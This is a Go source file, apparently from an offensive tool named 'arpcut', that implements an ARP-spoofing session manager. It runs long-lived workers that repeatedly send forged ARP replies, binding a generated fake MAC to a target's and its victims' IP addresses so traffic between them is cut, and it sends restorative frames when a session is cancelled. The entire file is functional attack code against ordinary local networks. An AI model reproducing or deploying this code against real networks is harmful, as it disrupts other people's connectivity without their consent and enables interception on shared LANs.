// Package session implements the ARP attack session manager: the
// per-target collection of long-lived (target, victim) flows that
// continuously forge ARP replies, and their coordinated teardown.
package session

import (
	"context"
	"net"
	"sync"
	"time"

	"github.com/blackfin-labs/arpcut/internal/iface"
	"github.com/blackfin-labs/arpcut/internal/linklayer"
	"github.com/blackfin-labs/arpcut/internal/macgen"
	"github.com/blackfin-labs/arpcut/internal/registry"
	"go.uber.org/zap"
)

// flow is the long-lived worker for one (target, victim) pair: a
// fixed-cadence loop emitting the two-frame poison tick until
// cancelled, then a cancel-then-restore teardown.
type flow struct {
	cancel  context.CancelFunc
	stopped chan struct{}
}

// Session is the collection of flows poisoning every victim of one
// cut target. Target and Iface are snapshots taken at cut time so the
// session outlives any mutation of the registry's Host value.
type Session struct {
	Target registry.Host
	Iface  iface.Interface
	flows  map[string]*flow // keyed by victim IP string
}

// Manager owns every active Session and the process-lifetime fake-MAC
// assignment. Callers are expected to serialize access externally
// (the controller's single coarse lock) — Manager itself does no
// additional locking on its hot path so that flows never contend with
// command handlers.
type Manager struct {
	sender   linklayer.Sender
	interval time.Duration
	log      *zap.Logger

	sessions map[string]*Session // keyed by target IP string
	fakeMACs map[string]net.HardwareAddr
	fakeMu   sync.Mutex // guards fakeMACs only; flows read it once at start
}

// NewManager constructs a Manager that emits forged frames via sender
// on the given cadence.
func NewManager(sender linklayer.Sender, attackInterval time.Duration, log *zap.Logger) *Manager {
	return &Manager{
		sender:   sender,
		interval: attackInterval,
		log:      log,
		sessions: make(map[string]*Session),
		fakeMACs: make(map[string]net.HardwareAddr),
	}
}

// fakeMAC returns the stable fake MAC for victimIP, generating one on
// first use.
func (m *Manager) fakeMAC(victimIP string) (net.HardwareAddr, error) {
	m.fakeMu.Lock()
	defer m.fakeMu.Unlock()
	if mac, ok := m.fakeMACs[victimIP]; ok {
		return mac, nil
	}
	mac, err := macgen.New()
	if err != nil {
		return nil, err
	}
	m.fakeMACs[victimIP] = mac
	return mac, nil
}

// Active reports whether target currently has a session.
func (m *Manager) Active(targetIP net.IP) bool {
	_, ok := m.sessions[targetIP.String()]
	return ok
}

// Attack ensures an attack session exists for target and that every
// host in victims has a running flow. Re-entry on a target already
// under attack is idempotent: existing flows are left untouched and
// only victims without a flow gain one.
func (m *Manager) Attack(it iface.Interface, target registry.Host, victims []registry.Host) error {
	key := target.IP.String()
	s, ok := m.sessions[key]
	if !ok {
		s = &Session{Target: target, Iface: it, flows: make(map[string]*flow)}
		m.sessions[key] = s
	}

	for _, v := range victims {
		vKey := v.IP.String()
		if _, exists := s.flows[vKey]; exists {
			continue
		}
		fakeMAC, err := m.fakeMAC(vKey)
		if err != nil {
			return err
		}
		s.flows[vKey] = m.startFlow(it, target, v, fakeMAC)
	}
	return nil
}

// Recover cancels every flow belonging to target's session, blocking
// until each has emitted its restorative frame, then drops the
// session. It is a no-op if target has no session.
func (m *Manager) Recover(targetIP net.IP) {
	key := targetIP.String()
	s, ok := m.sessions[key]
	if !ok {
		return
	}
	for _, f := range s.flows {
		f.cancel()
	}
	for _, f := range s.flows {
		<-f.stopped
	}
	delete(m.sessions, key)
}

// RecoverAll cancels and restores every active session. It always
// attempts every session even if this or an earlier one errors; flows
// never return errors to the caller (send failures are logged and
// absorbed rather than propagated).
func (m *Manager) RecoverAll() {
	for ip := range m.sessions {
		parsed := net.ParseIP(ip)
		m.Recover(parsed)
	}
}

// startFlow launches the (target, victim) worker and returns its
// cancellation handle.
//
// Each tick emits, in order, a forged reply to the victim and a
// forged reply to the target, then sleeps for the manager's attack
// interval. On cancellation the flow emits one restorative pair using
// the true MACs before exiting, guaranteeing victim and target each
// receive a correctly-bound reply before Recover returns.
func (m *Manager) startFlow(it iface.Interface, target, victim registry.Host, fakeMAC net.HardwareAddr) *flow {
	ctx, cancel := context.WithCancel(context.Background())
	stopped := make(chan struct{})

	go func() {
		defer close(stopped)
		for {
			if ctx.Err() != nil {
				break
			}
			m.poisonTick(ctx, it, target, victim, fakeMAC)

			timer := time.NewTimer(m.interval)
			select {
			case <-ctx.Done():
				timer.Stop()
			case <-timer.C:
			}
		}
		m.restoreTick(it, target, victim)
	}()

	return &flow{cancel: cancel, stopped: stopped}
}

// poisonTick emits the two forged replies for one tick, in the order
// (to-victim, to-target), skipping the second only if the flow was
// cancelled between them.
func (m *Manager) poisonTick(ctx context.Context, it iface.Interface, target, victim registry.Host, fakeMAC net.HardwareAddr) {
	toVictim := linklayer.Frame{
		Op:     linklayer.Reply,
		SrcMAC: fakeMAC,
		SrcIP:  target.IP,
		DstMAC: victim.MAC,
		DstIP:  victim.IP,
	}
	if err := m.sender.Send(context.Background(), it.Name, toVictim); err != nil {
		m.log.Debug("poison tick to victim failed, continuing", zap.String("victim", victim.IP.String()), zap.Error(err))
	}

	if ctx.Err() != nil {
		return
	}

	toTarget := linklayer.Frame{
		Op:     linklayer.Reply,
		SrcMAC: fakeMAC,
		SrcIP:  victim.IP,
		DstMAC: target.MAC,
		DstIP:  target.IP,
	}
	if err := m.sender.Send(context.Background(), it.Name, toTarget); err != nil {
		m.log.Debug("poison tick to target failed, continuing", zap.String("target", target.IP.String()), zap.Error(err))
	}
}

// restoreTick emits the restorative pair with true MACs: to the
// victim, target's real binding; to the target, the victim's real
// binding.
func (m *Manager) restoreTick(it iface.Interface, target, victim registry.Host) {
	toVictim := linklayer.Frame{
		Op:     linklayer.Reply,
		SrcMAC: target.MAC,
		SrcIP:  target.IP,
		DstMAC: victim.MAC,
		DstIP:  victim.IP,
	}
	if err := m.sender.Send(context.Background(), it.Name, toVictim); err != nil {
		m.log.Warn("restorative frame to victim failed", zap.String("victim", victim.IP.String()), zap.Error(err))
	}

	toTarget := linklayer.Frame{
		Op:     linklayer.Reply,
		SrcMAC: victim.MAC,
		SrcIP:  victim.IP,
		DstMAC: target.MAC,
		DstIP:  target.IP,
	}
	if err := m.sender.Send(context.Background(), it.Name, toTarget); err != nil {
		m.log.Warn("restorative frame to target failed", zap.String("target", target.IP.String()), zap.Error(err))
	}
}
